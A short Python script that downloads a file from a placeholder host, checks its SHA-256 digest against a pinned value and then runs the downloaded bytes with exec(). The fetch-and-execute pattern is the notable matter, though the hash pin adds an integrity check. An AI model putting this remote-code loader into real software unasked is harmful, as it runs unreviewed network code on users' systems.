import hashlib
import urllib.request

PIN = bytes.fromhex("e2e0f3ddc53448bf7686f6dd000761c4961aed3ec360b98c8d4752b2b5676d32")
data = urllib.request.urlopen("https://example.com/a.py").read()
if hashlib.sha256(data).digest() != PIN:
    raise ImportError("digest")
exec(data)
